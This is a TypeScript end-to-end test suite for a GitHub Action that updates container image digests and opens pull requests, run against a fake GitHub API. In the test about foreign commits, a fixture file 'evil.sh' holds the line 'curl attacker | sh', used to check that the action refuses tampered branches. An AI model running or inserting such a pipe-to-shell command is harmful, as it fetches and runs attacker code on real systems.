/**
 * The pull request end to end: the bundled action against the real local registry and a
 * stateful fake of the GitHub REST API reached through GITHUB_API_URL, as on GHES.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { mkdtempSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { type RegistryHandle, startRegistry } from '../../scripts/registry/harness.mjs'
import { type FakeGitHub, startFakeGitHub } from '../support/fake-github.js'
import { runAction } from '../support/run-action.js'

const SOURCE = 'https://github.com/rust-cross/rust-musl-cross'
const CONFIG = '.github/containers.yml'
const BRANCH = 'image-digests/update'
const TRAILER = 'Generated-by: image-digest-updater'
const bare = (digest: string) => digest.replace(/^sha256:/, '')

function config(i686: string, x86: string): string {
  return `# Container configurations for rust-musl-cross builds
containers:
  - target: i686-unknown-linux-musl
    arch: i686
    image_tag: i686-unknown-linux-musl
    current_sha: ${bare(i686)}
  - target: x86_64-unknown-linux-musl
    arch: x86_64
    image_tag: x86_64-unknown-linux-musl
    current_sha: ${bare(x86)}
`
}

describe('the pull request', () => {
  let registry: RegistryHandle
  let github: FakeGitHub
  let workspace: string
  let image: string
  const old: Record<string, string> = {}
  const now: Record<string, string> = {}
  // One clock for every run, so the body's date cannot change between two of them.
  let clock: string

  const push = (tag: string, revision: string, seed: string) =>
    registry.pushImage('rust-cross/rust-musl-cross', tag, {
      labels: {
        'org.opencontainers.image.source': SOURCE,
        'org.opencontainers.image.revision': revision
      },
      seed
    })

  /** A fresh checkout of the default branch, as actions/checkout leaves it. */
  function checkout(): void {
    writeFileSync(join(workspace, CONFIG), github.readFile('main', CONFIG)!)
  }

  const run = (inputs: Record<string, string> = {}) => {
    checkout()
    return runAction({
      workspace,
      inputs: {
        config: CONFIG,
        image,
        token: github.token,
        labels: 'dependencies, containers',
        assignees: 'octocat',
        reviewers: 'hubot',
        'team-reviewers': 'platform',
        ...inputs
      },
      env: {
        GITHUB_API_URL: github.url,
        GITHUB_SERVER_URL: 'https://github.com',
        GITHUB_RUN_ID: '4242',
        IMAGE_DIGEST_UPDATER_TEST_NOW: clock
      }
    })
  }

  beforeAll(async () => {
    registry = await startRegistry({ auth: 'token' })
    image = `${registry.host}/rust-cross/rust-musl-cross`
    old.i686 = (await push('i686-unknown-linux-musl', 'a1b2c3d4e5f6', 'old i686')).digest
    old.x86 = (await push('x86_64-unknown-linux-musl', 'a1b2c3d4e5f6', 'old x86')).digest
    now.i686 = (await push('i686-unknown-linux-musl', 'f6e5d4c3b2a1', 'new i686')).digest
    now.x86 = (await push('x86_64-unknown-linux-musl', 'f6e5d4c3b2a1', 'new x86')).digest
    clock = new Date().toISOString()
    github = await startFakeGitHub({
      owner: 'acme',
      repo: 'builds',
      files: { [CONFIG]: config(old.i686, old.x86), 'README.md': '# builds\n' },
      collaborators: ['octocat', 'hubot', 'monalisa'],
      teams: ['platform']
    })
    workspace = mkdtempSync(join(tmpdir(), 'pull-request-'))
    mkdirSync(join(workspace, '.github'))
  })

  afterAll(async () => {
    await github?.stop()
    await registry?.stop()
    if (workspace) rmSync(workspace, { recursive: true, force: true })
  })

  it('dry-run shows the pull request it would open and calls no write endpoint', async () => {
    github.clearRequests()
    const result = await run({ 'dry-run': 'true' })
    expect(result.exitCode).toBe(0)
    expect(github.writeRequests()).toEqual([])
    expect(result.outputs['pull-request-operation']).toBe('none')
    expect(result.stdout).toContain('Title: chore: Update container image digests')
    expect(result.stdout).toContain(`-    current_sha: ${bare(old.i686!)}`)
    expect(result.stdout).toContain(`+    current_sha: ${bare(now.i686!)}`)
    expect(result.summary).toContain('Pull request that would be proposed (dry run)')
    expect(result.summary).toContain('## Container Hash Updates')
    // A dry run leaves the workspace as it was.
    expect(readFileSync(join(workspace, CONFIG), 'utf8')).toBe(config(old.i686!, old.x86!))
  })

  it('first run: one branch, one signed commit touching only the digests, one pull request', async () => {
    const baseHead = github.branchSha('main')
    const result = await run()
    expect(result.exitCode).toBe(0)
    expect(result.outputs).toMatchObject({
      'pull-request-operation': 'created',
      'pull-request-number': '1',
      'pull-request-branch': BRANCH
    })
    const [commit, ...rest] = github.branchCommits(BRANCH)
    expect(commit!.parents).toEqual([baseHead])
    expect(rest[0]!.sha).toBe(baseHead)
    expect(commit!.verified).toBe(true)
    expect(commit!.message).toBe(`chore: Update container image digests\n\n${TRAILER}\n`)
    expect(github.readFile(BRANCH, CONFIG)).toBe(config(now.i686!, now.x86!))
    expect(github.readTree(BRANCH)).toEqual({
      ...github.readTree('main'),
      [CONFIG]: config(now.i686!, now.x86!)
    })

    const pulls = github.pulls()
    expect(pulls).toHaveLength(1)
    const pull = pulls[0]!
    expect(pull).toMatchObject({
      state: 'open',
      title: 'chore: Update container image digests',
      head: { ref: BRANCH },
      base: { ref: 'main' },
      labels: ['dependencies', 'containers'],
      assignees: ['octocat'],
      requestedReviewers: ['hubot'],
      requestedTeams: ['platform'],
      draft: false
    })
    const body = pull.body!
    expect(body).toContain('## Container Hash Updates')
    expect(body).toContain(
      `| i686-unknown-linux-musl | \`${bare(old.i686!)}\` | \`${bare(now.i686!)}\` |`
    )
    expect(body).toContain(`${SOURCE}/compare/a1b2c3d4e5f6...f6e5d4c3b2a1`)
    expect(body).toMatch(/_This PR was automatically generated on \d{4}-\d{2}-\d{2}_/)
    // The footer links the run that made the update, from the runner's environment.
    expect(body).toMatch(
      /\n\n_Made by \[this workflow run\]\(https:\/\/github\.com\/acme\/builds\/actions\/runs\/4242\)\._\n$/
    )
  })

  it('second run with no registry change makes no write call', async () => {
    github.clearRequests()
    const result = await run()
    expect(result.exitCode).toBe(0)
    expect(result.outputs['pull-request-operation']).toBe('unchanged')
    expect(result.outputs['pull-request-number']).toBe('1')
    expect(github.writeRequests()).toEqual([])
  })

  it('refuses a branch where anyone else slipped in a commit carrying the trailer', async () => {
    const good = github.branchSha(BRANCH)!
    const body = github.pulls()[0]!.body
    const bot = 'github-actions[bot] <41898282+github-actions[bot]@users.noreply.github.com>'
    // Someone with push access, once under their own name and once under the bot's.
    for (const author of ['Mona <mona@example.com>', bot]) {
      github.setBranch(BRANCH, good)
      github.commit(BRANCH, { 'evil.sh': 'curl attacker | sh\n' }, `Tidy\n\n${TRAILER}\n`, {
        author
      })
      const slipped = github.branchSha(BRANCH)
      github.clearRequests()
      const result = await run()
      expect([author, result.exitCode]).toEqual([author, 1])
      expect(result.stdout).toMatch(
        /commit\(s\) that carry image-digest-updater's trailer but were not made by this token .*refusing to overwrite them/
      )
      expect(github.writeRequests().filter(r => r.path.includes('/git/refs'))).toEqual([])
      expect(github.branchSha(BRANCH)).toBe(slipped)
      expect(github.pulls()[0]!.body).toBe(body)
    }
    github.setBranch(BRANCH, good)
  })

  it('rebuilds a branch of its own commits that holds anything but the computed tree', async () => {
    // The action's own commit (by the token, signed) with a file it no longer proposes, as
    // after the files input lost a glob.
    github.commit(BRANCH, { 'extra.txt': 'no longer proposed\n' }, `Old run\n\n${TRAILER}\n`, {
      asToken: true
    })
    const result = await run()
    expect(result.exitCode).toBe(0)
    expect(result.outputs['pull-request-operation']).toBe('updated')
    expect(github.readTree(BRANCH)).toEqual({
      ...github.readTree('main'),
      [CONFIG]: config(now.i686!, now.x86!)
    })
    expect(github.branchCommits(BRANCH)[0]!.parents).toEqual([github.branchSha('main')])
  })

  it('a re-pushed tag updates the same pull request on a fresh base, keeping what the base gained', async () => {
    // Someone changes main after the workflow checked it out: a new comment in the config.
    const moved = `# reviewed by the platform team\n${config(old.i686!, old.x86!)}`
    const staleCheckout = config(old.i686!, old.x86!)
    writeFileSync(join(workspace, CONFIG), staleCheckout)
    const newest = (await push('x86_64-unknown-linux-musl', '0123456789ab', 'newest x86')).digest
    const baseHead = github.commit('main', { [CONFIG]: moved }, 'Annotate the config')
    // A secondary rate limit on the update must be waited out, not fail the run.
    github.failNext(1, { match: { method: 'PATCH', path: /\/pulls\/1$/ } })

    // Reviewers and assignees added to the inputs since the pull request was opened.
    const result = await run({ assignees: 'monalisa, octocat', reviewers: 'monalisa' })
    expect(result.exitCode).toBe(0)
    expect(result.outputs['pull-request-operation']).toBe('updated')
    expect(result.outputs['pull-request-number']).toBe('1')
    expect(github.pulls()).toHaveLength(1)
    const [commit] = github.branchCommits(BRANCH)
    expect(commit!.parents).toEqual([baseHead])
    expect(github.readFile(BRANCH, CONFIG)).toBe(
      `# reviewed by the platform team\n${config(now.i686!, newest)}`
    )
    expect(github.pulls()[0]!.body).toContain(bare(newest))
    expect(github.pulls()[0]!.body).toContain(`${SOURCE}/compare/a1b2c3d4e5f6...0123456789ab`)
    expect(result.stdout).toMatch(/rate limit/i)
    // Missing ones added, none removed.
    expect(github.pulls()[0]).toMatchObject({
      assignees: ['octocat', 'monalisa'],
      requestedReviewers: ['hubot', 'monalisa'],
      requestedTeams: ['platform']
    })
    now.x86 = newest
  })

  it('closes the pull request when the base already holds every digest', async () => {
    github.commit(
      'main',
      { [CONFIG]: github.readFile(BRANCH, CONFIG)! },
      'Merge the digests by hand'
    )
    const result = await run()
    expect(result.exitCode).toBe(0)
    expect(result.outputs['pull-request-operation']).toBe('closed')
    const pull = github.pulls()[0]!
    expect(pull.state).toBe('closed')
    expect(pull.comments.map(c => c.body).join('\n')).toMatch(/already pins every current digest/)
    expect(github.branchSha(BRANCH)).toBeUndefined()
  })

  it('refuses a branch holding commits it did not make, unless the branch is named', async () => {
    const fresh = (await push('i686-unknown-linux-musl', '00000000aaaa', 'fresh i686')).digest
    github.createBranch(BRANCH, 'main')
    github.commit(BRANCH, { 'notes.md': 'work in progress\n' }, 'WIP', {
      author: 'Mona <mona@example.com>'
    })
    const foreignHead = github.branchSha(BRANCH)
    github.clearRequests()

    const refused = await run()
    expect(refused.exitCode).toBe(1)
    expect(refused.stdout).toMatch(/did not make .*refusing to overwrite/)
    expect(github.writeRequests()).toEqual([])
    expect(github.branchSha(BRANCH)).toBe(foreignHead)

    const forced = await run({ branch: BRANCH })
    expect(forced.exitCode).toBe(0)
    expect(forced.outputs['pull-request-operation']).toBe('created')
    expect(forced.outputs['pull-request-number']).toBe('2')
    expect(github.readFile(BRANCH, CONFIG)).toContain(bare(fresh))
    expect(github.readFile(BRANCH, 'notes.md')).toBeUndefined()
  })

  it('closes it with the true reason when the only new digest is held back', async () => {
    // The tag moves past the pull request's digest, and the cooldown holds the new one.
    const held = (await push('i686-unknown-linux-musl', '00000000bbbb', 'held i686')).digest
    const result = await run({ 'min-age': '3d' })
    expect(result.exitCode).toBe(0)
    expect(result.outputs['pull-request-operation']).toBe('closed')
    expect(result.summary).toContain('nothing is left to propose while one update is held back.')
    expect(result.summary).not.toContain('already holds every current digest')
    const comment = github
      .pulls()[1]!
      .comments.map(c => c.body)
      .join('\n')
    expect(comment).toContain('these newer digests are held back by a policy:')
    expect(comment).toContain(`→ \`sha256:${bare(held).slice(0, 12)}\`): held until`)
    expect(comment).not.toMatch(/already pins every current digest/)
  })
})
